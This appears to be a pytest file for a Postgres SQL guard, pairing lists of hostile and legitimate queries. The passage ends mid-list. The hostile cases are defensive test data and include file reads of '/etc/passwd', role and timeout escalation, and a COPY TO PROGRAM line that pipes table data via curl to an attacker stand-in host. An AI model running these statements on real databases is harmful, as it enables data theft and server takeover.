"""The SQL guard: hostile statements are refused, legitimate reads pass and really run on Postgres."""

from __future__ import annotations

import ast as pyast
import datetime as dt
import re
from collections.abc import AsyncIterator
from pathlib import Path

import asyncpg
import pytest

from core import sqlguard
from core.config import DatabaseSettings
from core.db.functions import AllowedFunctions
from core.db.postgres import PgDatabase
from core.errors import GuardError
from core.messages import CutText, to_cell
from core.sqlguard import Classification, FunctionCall, SqlGuard, StatementKind, must_run_outside_transaction
from tests.services import throwaway_database

READ, WRITE, DDL, ADMIN, FORBIDDEN = (StatementKind.READ, StatementKind.WRITE, StatementKind.DDL,
                                      StatementKind.ADMIN, StatementKind.FORBIDDEN)
REFUSED = None  # classify() itself raises GuardError (several statements, parse error, nothing to run)

# Each hostile statement with what classify() must say about it; check_read refuses every one.
HOSTILE: list[tuple[str, StatementKind | None]] = [
    # Several statements in one string, however they are dressed up.
    ("SELECT 1; DROP TABLE orders", REFUSED),
    ("COMMIT; DELETE FROM orders", REFUSED),
    ("select 1;\nselect 2;", REFUSED),
    ("SELECT 'a;b'; DELETE FROM orders -- trailing comment", REFUSED),
    ("SELECT $$;$$; TRUNCATE orders", REFUSED),
    # Nothing to run, or not SQL.
    ("", REFUSED),
    ("   ;  ", REFUSED),
    ("-- DROP TABLE orders", REFUSED),
    ("/* only a comment */", REFUSED),
    ("SELEC * FROM orders", REFUSED),
    # Data-modifying CTEs, anywhere.
    ("WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", WRITE),
    ("WITH i AS (INSERT INTO orders (customer_id) VALUES (1) RETURNING id) SELECT count(*) FROM i", WRITE),
    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), "
     "d AS (UPDATE orders SET amount = 0 RETURNING id) SELECT * FROM r, d", WRITE),
    ("SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)", WRITE),
    # Side-effecting functions, in every position.
    ("SELECT * FROM (SELECT lo_import('/etc/passwd')) s", FORBIDDEN),
    ("SELECT * FROM lo_import('/etc/passwd')", FORBIDDEN),
    ("SELECT lo_export(16385, '/tmp/x')", FORBIDDEN),
    ("SELECT lo_create(0)", FORBIDDEN),
    ("SELECT lo_unlink(16385)", FORBIDDEN),
    ("SELECT loread(lo_open(16385, 262144), 100)", FORBIDDEN),
    ("SELECT pg_catalog.set_config('role', 'postgres', false)", FORBIDDEN),
    ("SELECT set_config('statement_timeout', '0', false)", FORBIDDEN),
    ("SELECT (SELECT set_config('default_transaction_read_only', 'off', false))", FORBIDDEN),
    ("SELECT id FROM orders ORDER BY pg_terminate_backend(42)", FORBIDDEN),
    ("SELECT id FROM orders WHERE pg_cancel_backend(pg_backend_pid())", FORBIDDEN),
    ("SELECT * FROM orders o, LATERAL (SELECT pg_read_file('/etc/passwd') AS f) x", FORBIDDEN),
    ("SELECT * FROM orders o CROSS JOIN LATERAL pg_ls_dir('.') AS d", FORBIDDEN),
    ("WITH f AS (SELECT pg_ls_dir('.')) SELECT * FROM f", FORBIDDEN),
    ("SELECT count(*) FROM orders GROUP BY status HAVING bool_or(pg_terminate_backend(1))", FORBIDDEN),
    ("SELECT CASE WHEN true THEN pg_read_binary_file('/etc/passwd') END", FORBIDDEN),
    ("SELECT array_agg(id) FILTER (WHERE pg_cancel_backend(id)) FROM orders", FORBIDDEN),
    ("SELECT lag(id) OVER (ORDER BY pg_advisory_xact_lock(1)) FROM orders", FORBIDDEN),
    ("SELECT pg_advisory_lock(1)", FORBIDDEN),
    ("SELECT pg_try_advisory_lock(1)", FORBIDDEN),
    ("SELECT nextval('orders_id_seq')", FORBIDDEN),
    ("SELECT setval('orders_id_seq', 1)", FORBIDDEN),
    ("SELECT pg_notify('ch', 'x')", FORBIDDEN),
    ("SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')", FORBIDDEN),
    ("SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)", FORBIDDEN),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING *', true, false, '')", FORBIDDEN),
    # Functions that run a query themselves (issue 13): the query they run escapes every check above.
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT set_config(''role'', ''postgres'', true)::tsquery, ''b''::tsquery')",
     FORBIDDEN),
    ("SELECT table_to_xml('orders', true, false, '')", FORBIDDEN),
    ("SELECT schema_to_xml('public', true, false, '')", FORBIDDEN),
    ("SELECT database_to_xmlschema(true, false, '')", FORBIDDEN),
    ("SELECT cursor_to_xml('c', 1, true, false, '')", FORBIDDEN),
    # Attribute notation: (x).f is f(x).
    ("SELECT ('/etc/passwd'::text).pg_read_file", FORBIDDEN),
    ("SELECT (1).pg_terminate_backend", FORBIDDEN),
    ("SELECT ts_stat('SELECT set_config(''statement_timeout'', ''0'', false)::tsvector')", FORBIDDEN),
    ("SELECT pg_reload_conf()", FORBIDDEN),
    ("SELECT pg_switch_wal()", FORBIDDEN),
    ("SELECT pg_stat_reset()", FORBIDDEN),
    ("SELECT pg_stat_file('postgresql.conf')", FORBIDDEN),
    ("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", FORBIDDEN),
    ("SELECT pg_logical_emit_message(true, 'p', 'x')", FORBIDDEN),
    ("SELECT pg_import_system_collations('pg_catalog')", FORBIDDEN),
    ("select PG_READ_FILE('/etc/passwd')", FORBIDDEN),
    ("SELECT \"pg_read_file\"('/etc/passwd')", FORBIDDEN),
    ("SELECT /* innocent */ PG_CATALOG.Pg_Terminate_Backend(1) -- comment", FORBIDDEN),
    ("VALUES (pg_terminate_backend(1))", FORBIDDEN),
    ("EXPLAIN SELECT pg_read_file('/etc/passwd')", FORBIDDEN),
    # Denied functions inside writes and DDL are refused too, on both paths.
    ("UPDATE orders SET status = pg_read_file('/etc/passwd')", FORBIDDEN),
    ("INSERT INTO orders (customer_id) SELECT lo_import('/etc/passwd')", FORBIDDEN),
    ("CREATE TABLE leak AS SELECT pg_read_file('/etc/passwd') AS f", FORBIDDEN),
    # EXPLAIN ANALYZE executes what it explains.
    ("EXPLAIN ANALYZE DELETE FROM orders", WRITE),
    ("EXPLAIN (ANALYZE, FORMAT JSON) UPDATE orders SET amount = 0", WRITE),
    ("explain analyse insert into orders (customer_id) values (1)", WRITE),
    ("EXPLAIN (ANALYZE true) SELECT * FROM orders FOR UPDATE", WRITE),
    ("EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1", DDL),
    # Tables created from a SELECT.
    ("SELECT * INTO orders_copy FROM orders", DDL),
    ("CREATE TABLE orders_copy AS SELECT * FROM orders", DDL),
    # Row locks.
    ("SELECT * FROM orders FOR UPDATE", WRITE),
    ("SELECT * FROM (SELECT * FROM orders FOR SHARE) s", WRITE),
    ("SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", WRITE),
    # Plain DML, in mixed case and with comments.
    ("DeLeTe /* harmless */ FROM orders -- just a comment", WRITE),
    ("INSERT INTO orders (customer_id) VALUES (1)", WRITE),
    ("UPDATE orders SET amount = amount * 2", WRITE),
    ("MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE", WRITE),
    ("COPY orders FROM STDIN", WRITE),
    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", WRITE),
    # Settings, roles and transaction control.
    ("SET LOCAL statement_timeout = 0", FORBIDDEN),
    ("SET statement_timeout TO DEFAULT", FORBIDDEN),
    ("SET search_path = evil, public", FORBIDDEN),
    ("SET TRANSACTION READ WRITE", FORBIDDEN),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", FORBIDDEN),
    ("SET ROLE postgres", FORBIDDEN),
    ("RESET ROLE", FORBIDDEN),
    ("RESET ALL", FORBIDDEN),
    ("set session authorization postgres", FORBIDDEN),
    ("SET CONSTRAINTS ALL DEFERRED", FORBIDDEN),
    ("BEGIN", FORBIDDEN),
    ("START TRANSACTION READ WRITE", FORBIDDEN),
    ("COMMIT", FORBIDDEN),
    ("ROLLBACK", FORBIDDEN),
    ("SAVEPOINT s1", FORBIDDEN),
    ("RELEASE SAVEPOINT s1", FORBIDDEN),
    ("ROLLBACK TO SAVEPOINT s1", FORBIDDEN),
    ("PREPARE TRANSACTION 'x'", FORBIDDEN),
    ("COMMIT PREPARED 'x'", FORBIDDEN),
    # Session state, locks, notifications, prepared statements, cursors.
    ("DISCARD ALL", FORBIDDEN),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", FORBIDDEN),
    ("LISTEN ch", FORBIDDEN),
    ("NOTIFY ch, 'x'", FORBIDDEN),
    ("UNLISTEN *", FORBIDDEN),
    ("PREPARE p AS DELETE FROM orders", FORBIDDEN),
    ("EXECUTE p", FORBIDDEN),
    ("EXPLAIN EXECUTE p", FORBIDDEN),
    ("DEALLOCATE ALL", FORBIDDEN),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", FORBIDDEN),
    # The server itself: files, programs, configuration, databases.
    ("COPY orders TO PROGRAM 'curl -d @- http://evil.example'", FORBIDDEN),
    ("COPY orders FROM PROGRAM 'id'", FORBIDDEN),
    ("COPY orders FROM '/etc/passwd'", FORBIDDEN),
    ("COPY orders TO '/tmp/orders.csv'", FORBIDDEN),
    ("ALTER SYSTEM SET statement_timeout = 0", FORBIDDEN),
    ("LOAD 'auto_explain'", FORBIDDEN),
    ("CREATE DATABASE evil", FORBIDDEN),
    ("DROP DATABASE postgres", FORBIDDEN),
    ("CHECKPOINT", FORBIDDEN),
    ("CREATE TABLESPACE t LOCATION '/tmp'", FORBIDDEN),
    # Changes that need approval are not reads.
    ("DROP TABLE orders", DDL),
    ("TRUNCATE orders", DDL),
    ("ALTER TABLE orders ADD COLUMN x int", DDL),
    ("CREATE INDEX ON orders (status)", DDL),
    ("VACUUM orders", ADMIN),
    ("GRANT ALL ON orders TO public", ADMIN),
    ("DO $$ BEGIN PERFORM 1; END $$", ADMIN),
    ("CALL do_something()", ADMIN),
    ("REFRESH MATERIALIZED VIEW mv", ADMIN),
    ("CREATE ROLE evil SUPERUSER", ADMIN),
]

# Legitimate reads: each must pass check_read AND run in a read-only transaction on the real Postgres
# (tables from _SCHEMA below).
READS: list[str] = [
    "SELECT 1",
    "SELECT * FROM orders",
    "select id, amount from orders where status = 'paid' order by amount desc limit 5 offset 1",
    "SELECT c.name, sum(o.amount) AS total FROM customers c JOIN orders o ON o.customer_id = c.id "
    "GROUP BY c.name HAVING sum(o.amount) > 10 ORDER BY total DESC",
    "SELECT id, amount, rank() OVER (PARTITION BY customer_id ORDER BY amount DESC) FROM orders",
    "SELECT id, lag(amount) OVER w, sum(amount) OVER (w ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) "
    "FROM orders WINDOW w AS (ORDER BY created_at)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) AS median FROM orders",
    "SELECT mode() WITHIN GROUP (ORDER BY status), "
    "percentile_disc(ARRAY[0.25, 0.75]) WITHIN GROUP (ORDER BY amount) FROM orders",
    "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) AS all_orders FROM orders",
    "SELECT status, customer_id, sum(amount) FROM orders GROUP BY GROUPING SETS ((status), (customer_id), ())",
    "SELECT status, customer_id, sum(amount), grouping(status, customer_id) FROM orders "
    "GROUP BY ROLLUP (status, customer_id)",
    "SELECT status, customer_id, count(*) FROM orders GROUP BY CUBE (status, customer_id)",
    "WITH RECURSIVE tree AS (SELECT id, name, parent_id, 1 AS depth FROM customers WHERE parent_id IS NULL "
    "UNION ALL SELECT c.id, c.name, c.parent_id, t.depth + 1 FROM customers c JOIN tree t ON c.parent_id = t.id) "
    "SELECT * FROM tree",
    "WITH paid AS MATERIALIZED (SELECT * FROM orders WHERE status = 'paid'), "
    "big AS NOT MATERIALIZED (SELECT * FROM paid WHERE amount > 10) SELECT count(*) FROM big",
    "SELECT c.name, last.* FROM customers c CROSS JOIN LATERAL "
    "(SELECT id, amount FROM orders o WHERE o.customer_id = c.id ORDER BY created_at DESC LIMIT 1) AS last",
    "SELECT c.name, o.id FROM customers c LEFT JOIN LATERAL "
    "(SELECT id FROM orders WHERE customer_id = c.id LIMIT 2) o ON true",
    "SELECT meta->>'channel' AS channel, meta->'items'->0 AS first_item, meta #>> '{address,city}' AS city "
    "FROM orders",
    "SELECT id FROM orders WHERE meta @> '{\"channel\": \"web\"}' AND meta ? 'items'",
    "SELECT jsonb_path_query_array(meta, '$.items[*].sku'), jsonb_pretty(meta) FROM orders "
    "WHERE meta IS NOT NULL",
    "SELECT jsonb_build_object('id', id, 'amount', amount), json_agg(status) OVER () FROM orders",
    "SELECT o.id, e.key, e.value FROM orders o, jsonb_each_text(o.meta) AS e",
    "SELECT jsonb_agg(to_jsonb(o) - 'meta') FROM orders o",
    "SELECT DISTINCT ON (customer_id) customer_id, id, amount FROM orders ORDER BY customer_id, created_at DESC",
    "SELECT tags[1], tags[1:2], array_length(tags, 1), cardinality(tags) FROM orders "
    "WHERE 'gift' = ANY(tags) OR tags && ARRAY['rush']",
    "SELECT array_agg(DISTINCT status ORDER BY status), array_to_string(ARRAY[1, 2] || 3, ',') FROM orders",
    "SELECT u, ord FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS t(u, ord)",
    "SELECT name FROM customers WHERE name ~* '^a' OR email ~ '@example\\.com$' OR name SIMILAR TO '%(Bob|Eve)%'",
    "SELECT regexp_replace(email, '@.*$', ''), regexp_matches(email, '([a-z]+)@'), split_part(email, '@', 2) "
    "FROM customers",
    "SELECT amount::int, CAST(created_at AS date), '42'::numeric + 1, id::text || '-' || status FROM orders",
    "SELECT * FROM orders TABLESAMPLE SYSTEM (50) REPEATABLE (42)",
    "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI (10)",
    "SELECT g, g * 2 FROM generate_series(1, 5) AS g",
    "SELECT d::date FROM generate_series(now() - interval '3 days', now(), interval '1 day') AS d",
    "SELECT generate_series(1, 3) AS n",
    "SELECT name, similarity(name, 'alise') AS score FROM customers WHERE name % 'alise' ORDER BY score DESC",
    "SELECT word_similarity('ali', name), show_trgm(name) FROM customers",
    "SELECT 'DROP TABLE orders; COMMIT;' AS harmless",
    "SELECT $$DROP TABLE orders; COMMIT;$$ AS dollar, $tag$DELETE FROM orders; ROLLBACK;$tag$ AS tagged",
    "SELECT 1 /* DROP TABLE orders; COMMIT; */ AS one -- DELETE FROM orders;",
    "-- COMMIT;\nSELECT count(*) FROM orders;",
    "SELECT E'it''s \\n fine; ROLLBACK;' AS escaped",
    "SELECT 1 AS \"DROP TABLE\", 'pg_read_file(''/etc/passwd'')' AS not_a_call, 2 AS lo_import",
    "SELECT sku, qty FROM \"Order Items\" WHERE qty > 1",
    "SELECT naïve, \"Prix €\" FROM café",
    "SELECT U&\"na\\00EFve\" FROM café",
    "SELECT pg_sleep(0.01)",
    "VALUES (1, 'one'), (2, 'two') ORDER BY 1",
    "TABLE customers",
    "SHOW statement_timeout",
    "SHOW ALL",
    "EXPLAIN SELECT * FROM orders WHERE status = 'paid'",
    "EXPLAIN (FORMAT JSON, COSTS OFF) SELECT count(*) FROM orders",
    "EXPLAIN ANALYZE SELECT count(*) FROM orders",
    "EXPLAIN DELETE FROM orders WHERE id = 1",
    "EXPLAIN (ANALYZE false) UPDATE orders SET amount = 0",
    "EXPLAIN INSERT INTO orders (customer_id, amount) VALUES (1, 2)",
    "COPY (SELECT id, amount FROM orders ORDER BY id) TO STDOUT WITH (FORMAT csv, HEADER)",
    "COPY customers TO STDOUT",
    "SELECT id FROM orders UNION SELECT id FROM customers INTERSECT SELECT 1 EXCEPT SELECT 2",
    "SELECT name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id) "
    "AND id NOT IN (SELECT parent_id FROM customers WHERE parent_id IS NOT NULL)",
    "SELECT CASE WHEN amount > 10 THEN 'big' ELSE 'small' END, coalesce(status, '?'), nullif(amount, 0), "
    "greatest(amount, 1) FROM orders",
    "SELECT date_trunc('month', created_at), to_char(created_at, 'YYYY-MM'), extract(dow FROM created_at), "
    "age(now(), created_at) FROM orders",
    "SELECT string_agg(name, ', ' ORDER BY name), format('%s has %L', 'x', 'y') FROM customers",
    "SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['a', 'b'])) WITH ORDINALITY AS t(n, s, ord)",
    "SELECT id FROM orders ORDER BY amount DESC FETCH FIRST 2 ROWS WITH TIES",
    "SELECT pg_size_pretty(pg_total_relation_size('orders')), current_setting('statement_timeout'), "
    "current_user, version()",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' ORDER BY 1",
    "SELECT relname, n_live_tup FROM pg_catalog.pg_stat_user_tables ORDER BY relname",
    "SELECT to_tsvector('english', name) @@ plainto_tsquery('english', 'alice') FROM customers",
    "SELECT (a, b) < (2, 3) FROM (VALUES (1, 2)) v(a, b)",
    "SELECT xmlelement(name order_row, xmlattributes(id AS id)) FROM orders",
    "SELECT lower(name), upper(email), length(name), left(name, 2), md5(email) FROM public.customers",
    "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.name ILIKE 'a%'",
    "SELECT currval_is_not_called, lo_import_is_a_column FROM (SELECT 1 AS currval_is_not_called, "
    "2 AS lo_import_is_a_column) s",
    "SELECT now(), current_date, current_timestamp, localtime, clock_timestamp()",
    "SELECT id, ntile(2) OVER (ORDER BY amount), percent_rank() OVER (ORDER BY amount), "
    "cume_dist() OVER (ORDER BY amount) FROM orders",
    "SELECT id, first_value(amount) OVER w, last_value(amount) OVER w, nth_value(amount, 2) OVER w FROM orders "
    "WINDOW w AS (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)",
    "SELECT id, row_number() OVER (ORDER BY created_at), dense_rank() OVER (ORDER BY status), "
    "lead(amount, 1, 0) OVER (ORDER BY id) FROM orders",
    "SELECT avg(amount) OVER (ORDER BY created_at RANGE BETWEEN interval '1 day' PRECEDING AND CURRENT ROW) "
    "FROM orders",
    "SELECT max(amount) FILTER (WHERE tags IS NOT NULL) OVER (PARTITION BY status) FROM orders",
    "SELECT stddev(amount), variance(amount), corr(amount, id), regr_slope(amount, id) FROM orders",
    "SELECT bool_and(amount > 0), bool_or(status = 'new'), every(id > 0), bit_or(id) FROM orders",
    "SELECT percentile_cont(ARRAY[0.1, 0.9]) WITHIN GROUP (ORDER BY amount DESC) FROM orders",
    "SELECT rank(20) WITHIN GROUP (ORDER BY amount) FROM orders",
    "SELECT status FROM orders GROUP BY DISTINCT ROLLUP (status), CUBE (status)",
    "SELECT sum(amount) FROM orders GROUP BY ()",
    "SELECT width_bucket(amount, 0, 50, 5), count(*) FROM orders GROUP BY 1 ORDER BY 1",
    "SELECT customer_id, jsonb_object_agg(id, amount) FROM orders GROUP BY customer_id",
    "SELECT json_build_array(1, 'two', NULL), row_to_json(c) FROM customers c",
    "SELECT jsonb_set(meta, '{channel}', '\"app\"'), meta - 'items', meta || '{\"x\": 1}' FROM orders "
    "WHERE meta IS NOT NULL",
    "SELECT jsonb_array_elements(meta->'items')->>'sku' FROM orders WHERE meta ? 'items'",
    "SELECT * FROM jsonb_to_recordset('[{\"a\": 1, \"b\": \"x\"}]') AS r(a int, b text)",
    "SELECT id FROM orders WHERE meta @? '$.items[*] ? (@.sku == \"A1\")'",
    "SELECT '{\"a\": {\"b\": 2}}'::json #> '{a,b}', '[1,2,3]'::jsonb -> -1",
    "SELECT * FROM json_populate_record(NULL::customers, '{\"id\": 9, \"name\": \"zed\"}')",
    "SELECT array_position(ARRAY['a', 'b'], 'b'), array_remove(ARRAY[1, 2, 1], 1), "
    "ARRAY(SELECT id FROM orders ORDER BY id)",
    "SELECT tags @> ARRAY['gift'], tags <@ ARRAY['gift', 'rush', 'x'] FROM orders",
    "SELECT (ARRAY[[1, 2], [3, 4]])[2][1], array_dims(ARRAY[[1, 2], [3, 4]]), string_to_array('a,b,c', ',')",
    "SELECT * FROM unnest(ARRAY[1, 2], ARRAY['a', 'b']) AS u(n, s)",
    "SELECT substring(email FROM '@(.*)$'), position('@' IN email), "
    "overlay(name PLACING 'X' FROM 1 FOR 1) FROM customers",
    "SELECT regexp_split_to_table('a b  c', '\\s+')",
    "SELECT regexp_count(email, '[aeiou]'), regexp_like(email, '^a') FROM customers",
    "SELECT trim(both 'x' FROM 'xxhixx'), lpad('7', 3, '0'), initcap('hello world'), translate('abc', 'ab', 'xy')",
    "SELECT to_timestamp('2024-01-02', 'YYYY-MM-DD'), to_date('02/01/2024', 'DD/MM/YYYY'), "
    "make_interval(days => 3)",
    "SELECT created_at AT TIME ZONE 'UTC', date_part('epoch', created_at)::bigint, "
    "justify_interval(interval '40 days') FROM orders",
    "SELECT (created_at, created_at + interval '1 hour') OVERLAPS (now(), now() + interval '1 day') FROM orders",
    "SELECT '[1,10)'::int4range @> 5, int4multirange(int4range(1, 3), int4range(5, 8))",
    "SELECT '192.168.0.1'::inet << '192.168.0.0/24'::cidr, host('10.0.0.1/8'::inet)",
    "SELECT gen_random_uuid() IS NOT NULL, random() < 2",
    "SELECT round(avg(amount), 2), ceil(max(amount)), abs(-1), power(2, 10), sqrt(16), mod(7, 3), "
    "10 % 3, 2 ^ 3, |/ 25.0, @ -5 FROM orders",
    "SELECT encode('abc'::bytea, 'base64'), decode('YWJj', 'base64'), sha256('abc'::bytea)",
    "SELECT c.id, o.id FROM customers c FULL OUTER JOIN orders o ON o.customer_id = c.id",
    "SELECT c1.name, c2.name FROM customers c1 JOIN customers c2 ON c2.parent_id = c1.id",
    "SELECT name FROM customers WHERE id = ANY (SELECT customer_id FROM orders) AND id <> ALL (ARRAY[99])",
    "SELECT id FROM orders ORDER BY status COLLATE \"C\", amount DESC NULLS FIRST",
    "SELECT * FROM orders WHERE created_at BETWEEN now() - interval '7 days' AND now() "
    "AND status IS DISTINCT FROM 'void'",
    "SELECT * FROM (SELECT *, row_number() OVER (PARTITION BY customer_id ORDER BY amount DESC) AS rn "
    "FROM orders) ranked WHERE rn = 1",
    "WITH RECURSIVE fib(a, b, n) AS (VALUES (0, 1, 1) UNION ALL SELECT b, a + b, n + 1 FROM fib WHERE n < 10) "
    "SELECT a FROM fib",
    "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) "
    "SEARCH DEPTH FIRST BY n SET ord SELECT * FROM t ORDER BY ord",
    "WITH RECURSIVE g(id, parent_id) AS (SELECT id, parent_id FROM customers UNION ALL "
    "SELECT c.id, c.parent_id FROM customers c JOIN g ON c.id = g.parent_id) "
    "CYCLE id SET is_cycle USING path SELECT count(*) FROM g",
    "SELECT * FROM orders o WHERE o.amount > (SELECT avg(amount) FROM orders WHERE customer_id = o.customer_id)",
    "SELECT id FROM orders WHERE EXISTS (SELECT FROM customers WHERE customers.id = orders.customer_id)",
    "SELECT (s.o).id, array_agg(s.o) OVER () IS NOT NULL FROM (SELECT o FROM orders o) s",
    "SELECT xmax, ctid, tableoid::regclass FROM orders",
    "SELECT pg_typeof(amount), pg_column_size(meta) FROM orders",
    "SELECT c.relname, c.reltuples FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
    "WHERE n.nspname = 'public'",
    "SELECT a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_attribute a "
    "WHERE a.attrelid = 'orders'::regclass AND a.attnum > 0 AND NOT a.attisdropped",
    "SELECT conname, pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'orders'::regclass",
    "SELECT indexrelid::regclass, pg_get_indexdef(indexrelid) FROM pg_index WHERE indrelid = 'orders'::regclass",
    "SELECT obj_description('orders'::regclass, 'pg_class'), col_description('orders'::regclass, 1)",
    "SELECT pid, state, query FROM pg_stat_activity WHERE datname = current_database()",
    "SELECT locktype, mode FROM pg_locks WHERE NOT granted",
    "SELECT name, setting FROM pg_settings WHERE name LIKE '%timeout%'",
    "SELECT has_table_privilege('orders', 'SELECT'), extname FROM pg_extension",
    "SELECT pg_database_size(current_database()), pg_relation_size('orders'), pg_indexes_size('orders')",
    "SELECT quote_ident('Order Items'), quote_literal('it''s'), quote_nullable(NULL)",
    "SELECT xmlforest(name, email) FROM customers",
    "SELECT ts_rank(to_tsvector('english', name), to_tsquery('english', 'alice')), "
    "ts_headline('english', 'alice in wonderland', to_tsquery('english', 'alice')) FROM customers",
    "SELECT websearch_to_tsquery('english', 'alice -bob')",
    "SELECT name <-> 'alice' AS dist FROM customers ORDER BY name <-> 'alice' LIMIT 2",
    "SELECT count(*) FROM customers WHERE name % 'bob' OR 'bo' <% name",
    "SELECT 1 AS \"select\", 2 AS \"from\", 3 AS \"Mixed Case\"",
    "SELECT oi.sku FROM \"Order Items\" oi JOIN orders ON orders.id = oi.order_id",
    "SELECT * FROM public.\"Order Items\" AS oi(o, s, q) WHERE q >= 1",
    "SELECT 'ünïcødé ✓ 日本語' AS text, length('日本語')",
    "SELECT $fn$ CREATE FUNCTION evil() $fn$ AS body, 'COPY t TO PROGRAM ''x''' AS s",
    "SELECT 1 -- SELECT pg_read_file('/etc/passwd');",
    "/* SET ROLE postgres; */ SELECT current_user",
    "SELECT id FROM orders ORDER BY id LIMIT ALL OFFSET 0 FOR READ ONLY",
    "SELECT NULL::int IS NULL, true AND NOT false, 1 IS DISTINCT FROM 2, current_schema(), session_user",
    "SELECT pg_sleep_for('10 milliseconds')",
    "SELECT DISTINCT status FROM orders",
]

_SCHEMA = """
CREATE EXTENSION pg_trgm;
CREATE TABLE customers (
    id int PRIMARY KEY, name text NOT NULL, email text, parent_id int REFERENCES customers (id),
    created_at timestamptz NOT NULL DEFAULT now()
);
CREATE TABLE orders (
    id int PRIMARY KEY, customer_id int REFERENCES customers (id), amount numeric(10, 2),
    status text, created_at timestamptz NOT NULL DEFAULT now(), meta jsonb, tags text[]
);
CREATE TABLE "Order Items" (order_id int REFERENCES orders (id), sku text, qty int);
CREATE TABLE café (naïve text, "Prix €" numeric);
INSERT INTO customers (id, name, email, parent_id) VALUES
    (1, 'alice', 'alice@example.com', NULL), (2, 'bob', 'bob@example.com', 1), (3, 'eve', 'eve@example.org', 1);
INSERT INTO orders (id, customer_id, amount, status, created_at, meta, tags) VALUES
    (1, 1, 12.50, 'paid', now() - interval '2 days',
     '{"channel": "web", "items": [{"sku": "A1"}], "address": {"city": "Lyon"}}', ARRAY['gift']),
    (2, 1, 30.00, 'paid', now() - interval '1 day', '{"channel": "shop"}', ARRAY['rush', 'gift']),
    (3, 2, 5.00, 'new', now(), NULL, NULL);
INSERT INTO "Order Items" VALUES (1, 'A1', 2), (2, 'B2', 1);
INSERT INTO café VALUES ('oui', 3.5);
ANALYZE;
"""


@pytest.fixture
def guard() -> SqlGuard:
    return SqlGuard()


def _short(sql: str) -> str:
    return " ".join(sql.split())[:60] or "<empty>"


@pytest.mark.parametrize(("sql", "expected"), [pytest.param(s, k, id=_short(s)) for s, k in HOSTILE])
def test_hostile_statement_is_refused_on_the_read_path(
    guard: SqlGuard, sql: str, expected: StatementKind | None
) -> None:
    if expected is REFUSED:
        with pytest.raises(GuardError):
            guard.classify(sql)
    else:
        classification = guard.classify(sql)
        assert classification.kind is expected, classification
        if expected is FORBIDDEN:
            assert classification.reason, "a forbidden statement always says why"
            with pytest.raises(GuardError) as refused_change:
                guard.check_change(sql)
            assert refused_change.value.user_message == classification.reason
        else:
            assert guard.check_change(sql).kind is expected
    with pytest.raises(GuardError) as refused:
        guard.check_read(sql)
    assert refused.value.user_message.strip()


@pytest.mark.parametrize("sql", [pytest.param(s, id=_short(s)) for s in READS])
def test_legitimate_read_passes_check_read(guard: SqlGuard, sql: str) -> None:
    classification = guard.check_read(sql)
    assert classification.kind is READ
    assert classification.reason is None
    assert classification.lock is None


def test_there_are_at_least_as_many_reads_as_hostile_statements() -> None:
    assert len(HOSTILE) >= 45
    assert len(READS) >= 45
    assert len(READS) >= len(HOSTILE)


CHANGES: list[tuple[str, StatementKind, str, tuple[str, ...], str | None]] = [
    ("INSERT INTO shop.orders (id) VALUES (1)", WRITE, "InsertStmt", ("shop.orders",), "ROW EXCLUSIVE"),
    ("UPDATE orders SET amount = 1 FROM customers c WHERE c.id = orders.customer_id", WRITE, "UpdateStmt",
     ("customers", "orders"), "ROW EXCLUSIVE"),
    ("DELETE FROM orders WHERE id = 1", WRITE, "DeleteStmt", ("orders",), "ROW EXCLUSIVE"),
    ("MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN NOT MATCHED THEN INSERT (id) "
     "VALUES (c.id)", WRITE, "MergeStmt", ("customers", "orders"), "ROW EXCLUSIVE"),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d JOIN customers c ON c.id = d.customer_id",
     WRITE, "SelectStmt", ("customers", "orders"), "ROW EXCLUSIVE"),
    ("SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o", WRITE, "SelectStmt",
     ("customers", "orders"), "ROW SHARE"),
    ("COPY orders (id, amount) FROM STDIN WITH (FORMAT csv)", WRITE, "CopyStmt", ("orders",), "ROW EXCLUSIVE"),
    ("EXPLAIN ANALYZE DELETE FROM orders", WRITE, "ExplainStmt", ("orders",), "ROW EXCLUSIVE"),
    ("CREATE TABLE t (id int PRIMARY KEY, note text)", DDL, "CreateStmt", ("t",), None),
    ("CREATE TABLE t (id int REFERENCES customers (id))", DDL, "CreateStmt", ("customers", "t"),
     "SHARE ROW EXCLUSIVE"),
    ("CREATE TABLE p1 PARTITION OF p FOR VALUES IN (1)", DDL, "CreateStmt", ("p", "p1"), "ACCESS EXCLUSIVE"),
    ("CREATE TABLE t (LIKE orders INCLUDING ALL)", DDL, "CreateStmt", ("orders", "t"), "ACCESS SHARE"),
